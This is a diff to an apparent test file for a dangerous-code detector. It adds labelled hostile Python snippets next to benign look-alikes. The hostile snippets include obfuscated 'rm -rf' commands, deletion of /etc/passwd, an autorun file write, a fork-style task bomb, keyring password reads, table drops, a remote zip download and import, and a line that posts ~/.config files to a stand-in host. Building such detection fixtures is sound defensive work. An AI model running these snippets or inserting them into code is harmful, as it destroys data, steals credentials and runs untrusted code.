@@ -77,6 +77,28 @@ HARM = [
     ("import os\ndef rm(p):\n    os.remove(p)\ndo = [rm]\ndo[0]('/etc/passwd')", "python.delete.accounts"),
     ("import os\ndo = {'x': lambda p: os.remove(p)}\ndo.get('x')('/etc/passwd')", "python.delete.accounts"),
     ("import ast\nexec(compile(ast.parse('import os; os.remove(\"/etc/passwd\")'), 'x', 'exec'))", "python.delete.accounts"),  # noqa: E501
+    # what comprehensions, sorted and modules' own files come to
+    (
+        "import pathlib\nfor v in [pathlib.Path('/etc') / n for n in ('passwd', 'group')]:\n    v.rename('x')",  # noqa: E501
+        "python.delete.accounts",
+    ),
+    ("import os\nexec(''.join(c for c in 'oXs.sXystem(\"rm -rf ~\")' if c != 'X'))", "shell.delete.home"),
+    ("import os\np = {'c': '/usr', 'a': 'rm', 'b': '-rf'}\nos.system(' '.join(p[k] for k in sorted(p)))", "shell.delete.system"),  # noqa: E501
+    ("import usercustomize\nopen(usercustomize.__file__, 'a').write('x')", "python.write.autorun"),
+    (
+        "import urllib.parse, urllib.request as u, pathlib\n"
+        "d = {p.name: p.read_text() for p in pathlib.Path('~/.config').rglob('*.json')}\n"
+        "u.urlopen('http://x.example/', urllib.parse.urlencode(d).encode())",
+        SENT,
+    ),
+    ("import asyncio\nasync def f():\n    while True:\n        asyncio.create_task(f())\n        await asyncio.sleep(0)", "python.exhaust.processes"),  # noqa: E501
+    ("import requests\nfor _ in range(10**6):\n    requests.get('http://x.example')", LOOP),
+    ("import urllib.request as u, zipimport\nu.urlretrieve('http://x.example/m', '/tmp/m.zip')\nzipimport.zipimporter('/tmp/m.zip')", "python.run.downloaded"),  # noqa: E501
+    ("import ldap3\nc = ldap3.Connection('ldap://x')\nc.delete('ou=people')", "python.data.destroyed"),
+    ("import serial\nserial.Serial('/dev/ttyUSB0').write(b'configure terminal')", "python.network.changed"),
+    ("import keyring\nkeyring.get_keyring().get_password('a', 'b')", "python.credentials.read"),
+    ("import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE t')\nc.execute('CREATE TABLE t(a)')", "sql.drop.table"),  # noqa: E501
+    ("import psycopg2\nc = psycopg2.connect('x').cursor()\nc.execute('DROP TABLE IF EXISTS t')\nc.execute('CREATE TABLE t(a)')", "sql.drop.table"),  # noqa: E501
 ]  # fmt: skip
 
 
@@ -108,6 +130,12 @@ HONEST = [
     "import boto3\nc = boto3.Session().get_credentials()\nfrom requests_aws4auth import AWS4Auth\nAWS4Auth(c.access_key, c.secret_key)",  # noqa: E501
     "import pathlib\nfor p in pathlib.Path('src').rglob('*.py'):\n    print('password' in p.read_text())",
     "import os\ndo = {'x': lambda p: os.remove(p)}\ndo['x']('build/a.o')",
+    "import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE IF EXISTS t')\nc.execute('CREATE TABLE t(a)')",  # noqa: E501
+    "import requests\nfor _ in range(100):\n    requests.get('http://x.example')",
+    "import requests, time\nfor _ in range(10**6):\n    requests.get('http://x.example')\n    time.sleep(1)",  # noqa: E501
+    "import keyring\nprint(keyring.get_keyring())",
+    "print([c for c in 'abc' if c not in 'a'], sorted({'b': 1, 'a': 2}), sorted([3, 1]))",
+    "import asyncio\nasync def f():\n    while True:\n        await asyncio.sleep(1)\nasyncio.run(f())",
 ]  # fmt: skip
 
 
